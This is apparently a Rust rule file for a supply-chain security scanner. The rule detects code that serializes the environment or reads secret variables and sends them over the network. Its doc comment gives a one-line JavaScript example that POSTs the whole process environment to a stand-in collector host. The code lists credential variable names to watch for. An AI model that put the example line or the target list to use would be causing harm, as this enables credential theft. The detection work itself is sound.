//! # SW-GEN-005: environment harvesting
//!
//! **What it does.** Finds code that serializes the whole environment
//! (`JSON.stringify(process.env)`, `json.dumps(dict(os.environ))`,
//! `str(os.environ)`), hands it to a network call, or reads several
//! secret-looking variables (`AWS_SECRET_ACCESS_KEY`, `GITHUB_TOKEN`,
//! `NPM_TOKEN`, …) in a file that also talks to the network.
//!
//! **Why is this bad.** CI and developer environments hold tokens for the
//! cloud, the registry and the source host. Sending them off in one
//! request is the cheapest credential theft there is, and the most
//! common in dependency-confusion payloads.
//!
//! **Example.**
//!
//! ```javascript
//! https.request({ host: "collect.example.test", method: "POST" }).end(JSON.stringify(process.env));
//! ```
//!
//! **False positives.** Copying the environment to pass it to a child
//! process (`os.environ.copy()`) is not reported. Debug dumps of the
//! environment inside functions are `medium` at most.

use super::{Context, Emit, Rule, is_network};
use crate::lang::Call;
use crate::model::Severity;

pub(crate) static RULE: Rule = Rule {
    id: "SW-GEN-005",
    title: "environment harvesting",
    source: include_str!("gen005_env_harvest.rs"),
    check,
};

const SERIALIZERS: &[&str] = &[
    "json.dumps", "str", "repr", "dict", "JSON.stringify", "Object.keys", "Object.entries", "Object.assign",
    "base64.b64encode", "pickle.dumps", "print", "console.log", "list", "Buffer.from",
];

const SECRET_NAMES: &[&str] = &[
    "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN", "AWS_ACCESS_KEY_ID", "GITHUB_TOKEN", "GH_TOKEN", "NPM_TOKEN",
    "NODE_AUTH_TOKEN", "PYPI_TOKEN", "TWINE_PASSWORD", "OPENAI_API_KEY", "ANTHROPIC_API_KEY", "AZURE_CLIENT_SECRET",
    "GOOGLE_APPLICATION_CREDENTIALS", "SLACK_TOKEN", "DOCKER_PASSWORD", "CI_JOB_TOKEN", "VAULT_TOKEN",
];

fn whole_env(name: &str) -> bool {
    matches!(name, "os.environ" | "process.env" | "os.environ.items" | "os.environ.copy" | "os.environ.keys")
}

/// Whether `call` serializes the whole environment (`json.dumps(dict(os.environ))`,
/// `"\n".join(f"{k}={v}" for k, v in os.environ.items())`).
pub(crate) fn serializes_environment(call: &Call) -> bool {
    let joined = call.callee.ends_with(".join") && call.inner_calls.iter().any(|c| c == "os.environ.items");
    joined
        || SERIALIZERS.contains(&call.callee.as_str())
            && (call.names.iter().any(|n| whole_env(n)) || call.inner_calls.iter().any(|n| whole_env(n)))
}

fn check(cx: &Context<'_>, out: &mut Emit<'_>) {
    for file in cx.code_files() {
        let Some(facts) = &file.facts else { continue };
        let network = facts.calls.iter().find(|c| is_network(&c.callee));
        let mut reported = false;
        for call in &facts.calls {
            let serialized = serializes_environment(call);
            let sent = is_network(&call.callee)
                && (call.names.iter().any(|n| whole_env(n)) || call.inner_calls.iter().any(|n| whole_env(n)));
            if !(serialized || sent) {
                continue;
            }
            let (severity, what) = match (sent || network.is_some(), call.stage.is_automatic()) {
                (true, true) => (Severity::Critical, "serializes the whole environment and sends it over the network"),
                (true, false) if sent => (
                    Severity::High,
                    "sends the whole environment over the network",
                ),
                (true, false) => (
                    Severity::Medium,
                    "serializes the whole environment in a file that talks to the network",
                ),
                (false, true) => (Severity::Medium, "serializes the whole environment"),
                (false, false) => (Severity::Low, "serializes the whole environment"),
            };
            out.finding(severity, call.stage, &file.path, Some(call.line), format!("{what} (`{}`)", call.callee));
            reported = true;
            break;
        }
        if reported {
            continue;
        }
        let Some(network) = network else { continue };
        let secrets: Vec<&str> = SECRET_NAMES
            .iter()
            .copied()
            .filter(|s| facts.strings.iter().any(|l| l.value == *s) || facts.names.iter().any(|n| n.name.ends_with(&format!(".{s}"))))
            .collect();
        if secrets.len() >= 2 {
            let severity = if network.stage.is_automatic() { Severity::High } else { Severity::Medium };
            out.finding(
                severity,
                network.stage,
                &file.path,
                Some(network.line),
                format!("reads secret variables ({}) in a file that talks to the network", secrets.join(", ")),
            );
        }
    }
}
